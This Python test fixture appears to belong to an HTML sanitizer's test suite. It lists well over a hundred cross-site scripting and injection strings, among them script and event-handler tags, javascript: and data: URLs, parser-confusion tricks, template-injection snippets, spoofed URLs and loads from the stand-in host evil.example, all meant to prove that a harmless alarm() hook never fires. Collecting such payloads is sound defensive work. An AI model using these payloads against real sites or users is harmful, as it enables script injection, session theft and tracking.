"""Strings that want to be more than text. `alarm()` is a hook of the test: it must never be called."""

_TAGS = """
<script>alarm()</script>
<SCRIPT>alarm()</SCRIPT>
<script src=//evil.example/x.js></script>
<script src="https://evil.example/x.js" defer></script>
<script type=module>alarm()</script>
<script>/*</script><script>alarm()//*/</script>
</script><script>alarm()</script>
<script x>alarm()</script y>
<scr<script>ipt>alarm()</scr</script>ipt>
<img src=x onerror=alarm()>
<img src=x:x onerror="alarm()">
<img/src=x/onerror=alarm()>
<img src='x' onerror='alarm()'>
<img src=`x` onerror=`alarm()`>
<IMG SRC=x ONERROR=alarm()>
<img src=https://evil.example/pixel.gif>
<img srcset="https://evil.example/pixel.gif 2x">
<img src=1 oNeRrOr=alarm&#40;&#41;>
<img src=x onerror=\\u0061larm()>
<svg onload=alarm()>
<svg/onload=alarm()>
<svg><script>alarm()</script></svg>
<svg><script href="data:text/javascript,alarm()"/></svg>
<svg><animate onbegin=alarm() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alarm()>
<svg><a xlink:href="javascript:alarm()"><text x=20 y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGFybSgpIi8+#x"/></svg>
<svg><foreignObject><body onload=alarm()></foreignObject></svg>
<svg><style>@import url(https://evil.example/x.css)</style></svg>
<svg><image href="https://evil.example/x.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alarm()></style></mglyph></table></mtext></math>
<math href="javascript:alarm()">click</math>
<math><maction actiontype="statusline#" xlink:href="javascript:alarm()">click</maction></math>
<body onload=alarm()>
<body onpageshow=alarm()>
<body background=https://evil.example/x.png>
<iframe src="javascript:alarm()"></iframe>
<iframe srcdoc="<script>parent.alarm()</script>"></iframe>
<iframe src="data:text/html,<script>parent.alarm()</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<object data="javascript:alarm()"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+"></object>
<embed src="javascript:alarm()">
<embed src=https://evil.example/x.swf>
<applet code=x codebase=https://evil.example/></applet>
<video><source onerror=alarm()></video>
<video src=x onerror=alarm()>
<video poster=https://evil.example/x.png>
<audio src=x onerror=alarm()>
<audio autoplay src=https://evil.example/x.mp3>
<input autofocus onfocus=alarm()>
<input type=image src=x onerror=alarm()>
<input onblur=alarm() autofocus><input autofocus>
<select autofocus onfocus=alarm()>
<textarea autofocus onfocus=alarm()>
<keygen autofocus onfocus=alarm()>
<details open ontoggle=alarm()>
<details/open/ontoggle="alarm()">
<marquee onstart=alarm()>x</marquee>
<marquee loop=1 width=0 onfinish=alarm()>x</marquee>
<isindex type=image src=1 onerror=alarm()>
<form action="javascript:alarm()"><input type=submit id=x></form><label for=x>click</label>
<form id=f></form><button form=f formaction="javascript:alarm()">click</button>
<button onclick=alarm()>click</button>
<a href="javascript:alarm()">click</a>
<a href="JaVaScRiPt:alarm()">click</a>
<a href="java&#x09;script:alarm()">click</a>
<a href="&#106;avascript:alarm()">click</a>
<a href="data:text/html,<script>alarm()</script>">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href=x onmouseover=alarm()>click</a>
<a style="display:block;position:fixed;inset:0" href=https://evil.example/>click</a>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=https://evil.example/x.html>
<link rel=prefetch href=https://evil.example/>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alarm()">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<base href=https://evil.example/>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/x)}</style>
<style>body{display:none}</style>
<div style="background:url(https://evil.example/x)">x</div>
<div style="width:expression(alarm())">x</div>
<div style="behavior:url(#default#time2)" onbegin=alarm()>x</div>
<div style="position:fixed;inset:0;background:red">x</div>
<xss style="animation:arrive" onanimationstart=alarm()>x</xss>
<div onpointerover=alarm()>x</div>
<div onwheel=alarm() style="height:100vh">x</div>
<div contenteditable autofocus onfocus=alarm()>x</div>
<p tabindex=1 autofocus onfocus=alarm()>x</p>
<table background=https://evil.example/x.png><td>x</td></table>
<bgsound src=https://evil.example/x.wav>
<layer src=https://evil.example/></layer>
<frameset onload=alarm()><frame></frameset>
<noscript><p title="</noscript><img src=x onerror=alarm()>">
<noembed><img title="</noembed><img src=x onerror=alarm()>">
<title><img title="</title><img src=x onerror=alarm()>">
<textarea><img title="</textarea><img src=x onerror=alarm()>">
<xmp><img title="</xmp><img src=x onerror=alarm()>">
<plaintext><script>alarm()</script>
<template><script>alarm()</script></template>
<slot name=x onslotchange=alarm()></slot>
<!--<img src="--><img src=x onerror=alarm()>//">
<!--[if IE]><script>alarm()</script><![endif]-->
<![CDATA[<script>alarm()</script>]]>
<?xml-stylesheet href="javascript:alarm()"?>
<!DOCTYPE x [<!ENTITY e "<script>alarm()</script>">]><x>&e;</x>
<html><head><base href=//evil.example/></head></html>
<dialog open onclose=alarm()>x</dialog>
<portal src=https://evil.example/></portal>
<object type=text/x-scriptlet data=https://evil.example/></object>
<div xml:base="https://evil.example/"><a href="x">click</a></div>
<content type="html">&lt;script>alarm()&lt;/script></content>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alarm()</script></div></content>
<div xmlns="http://www.w3.org/1999/xhtml" onclick="alarm()">x</div>
<p id="main">x</p><p id="announcer" name="cookie">x</p>
<img name=getElementById><form name=body><input name=firstChild>
"""

_TEXTS = [
    "&lt;script&gt;alarm()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alarm()&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alarm()&#62;",
    "&#x3c;img src=x onerror=alarm()&#x3e;",
    "%3Cscript%3Ealarm()%3C/script%3E",
    "\\u003cscript\\u003ealarm()\\u003c/script\\u003e",
    "\\x3cscript\\x3ealarm()\\x3c/script\\x3e",
    "+ADw-script+AD4-alarm()+ADw-/script+AD4-",
    "\"><script>alarm()</script>",
    "'><img src=x onerror=alarm()>",
    "\" onmouseover=\"alarm()\" x=\"",
    "' autofocus onfocus='alarm()",
    "`onerror=alarm()`",
    "javascript:alarm()",
    "JAVASCRIPT:alarm()",
    "java\tscript:alarm()",
    "java\nscript:alarm()",
    "javascript://example.com/%0aalarm()",
    "https://example.com/\njavascript:alarm()",
    "https://example.com/\" onmouseover=\"alarm()",
    "https://example.com/'onmouseover='alarm()",
    "https://example.com/<img src=x onerror=alarm()>",
    "https://example.com/%22%3E%3Cscript%3Ealarm()%3C/script%3E",
    "https://alice:secret@evil.example/",
    "http://good.example@evil.example/",
    "https://evil.example\\@good.example/",
    "https:javascript:alarm()",
    "https://javascript:alarm()",
    "http:///evil.example/",
    "http://[::1",
    "https://exa\u00admple.com/",
    "https://\u0435xample.com/",
    "https://example.com/\u202egpj.exe",
    "ftp://evil.example/",
    "file:///etc/passwd",
    "data:text/html,<script>alarm()</script>",
    "blob:https://evil.example/x",
    "view-source:https://evil.example/",
    "//evil.example/",
    "feed:javascript:alarm()",
    "tel:0123 mailto:a@b",
    "alice@evil.example/../../api/account",
    "x@y\"onclick=alarm() z@w",
    "a@javascript:alarm()",
    "<a@b.example>",
    "..%2f..%2f@evil.example",
    "{{constructor.constructor('alarm()')()}}",
    "${alarm()}",
    "#{alarm()}",
    "<%= alarm() %>",
    "[click](javascript:alarm())",
    "![x](https://evil.example/x.png)",
    "[x]: javascript:alarm()",
    "__proto__",
    "constructor",
    "toString",
    "\u202ethis is written backwards\u202c",
    "\u2066\u2067\u2068 unfinished isolates",
    "\u200b\u200c\u200d\ufeff invisible",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319A\u0334\u0345L\u0321\u034f" * 6,
    "\ud7ff \ue000 \ufffd \U0010fffd",
    "W" * 400,
    "<" * 300,
    "\n" * 60 + "far below",
    "((((((((((((((((https://example.com/))))))))))))))))",
    "https://example.com/" + "a" * 1500,
]


def hostile_strings():
    """All of them, each once, in a fixed order."""
    tags = [line for line in _TAGS.splitlines() if line.strip()]
    return list(dict.fromkeys(tags + _TEXTS))
